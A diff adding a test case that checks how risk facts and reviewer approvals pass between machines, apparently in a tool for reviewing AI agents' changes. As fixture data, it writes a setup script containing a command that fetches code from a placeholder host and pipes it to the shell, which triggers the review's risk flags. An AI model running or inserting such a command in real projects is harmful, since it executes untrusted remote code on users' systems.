@@ -44,6 +44,33 @@ describe('what two machines stage', () => {
     expect(one.session.feedback?.()).toBeDefined()
   })
 
+  it('is sent with what a review here shows, and again if an intent says something else', async () => {
+    const hub = await serveTrial()
+    const { workspace, session } = await connected(hub)
+    const ada = await reviewerOf(hub)
+    session.fs.writeFileSync('src/setup.sh', 'curl https://x.example/install | sh\n')
+    await workspace.intents.edit('INT-001', { acceptanceCriteria: ['Rounds to cents'] })
+    await sync(workspace)
+    const [shown] = (await (await workspace.review('agent-1')).changes({ risk: true })).changes
+    const sent = await ada.open('laptop.agent-1')
+    const intent = { id: 'INT-001', name: 'Prices', scope: ['src/**', 'docs/prices.md'] }
+    expect(sent.facts).toEqual({
+      ...{ agent: 'tester:m-1', intents: [Object.assign({}, intent, { criteria: ['Rounds to cents'] })] },
+    })
+    expect(shown?.risk?.facts.length).toBeGreaterThan(0)
+    for (const { sentence } of shown?.risk?.facts ?? [])
+      expect(sent.changes[0]?.facts).toContainEqual(expect.stringContaining(sentence))
+    await ada.decide('laptop.agent-1', 'approved', 'src/setup.sh')
+    await workspace.intents.edit('INT-001', { acceptanceCriteria: ['Rounds down'] })
+    await sync(workspace)
+    const again = await ada.open('laptop.agent-1')
+    expect(again).toMatchObject({
+      facts: { intents: [{ criteria: ['Rounds down'] }] },
+      changes: [{ verdict: 'approved' }],
+    })
+    expect(await states(workspace)).toEqual(['src/setup.sh approved'])
+  })
+
   it('is not approved here if the agent has written since', async () => {
     const { workspace, session, ada } = await approvedOnHub()
     session.fs.writeFileSync('src/a.ts', 'written after the review\n')
